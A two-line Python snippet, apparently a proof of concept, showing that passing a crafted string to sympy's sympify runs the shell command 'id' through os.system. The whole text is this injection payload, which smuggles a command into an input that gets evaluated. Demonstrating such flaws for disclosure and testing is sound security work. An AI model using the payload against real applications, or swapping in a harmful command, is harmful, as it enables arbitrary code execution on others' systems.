from sympy import sympify

sympify("__import__('os').system('id')")
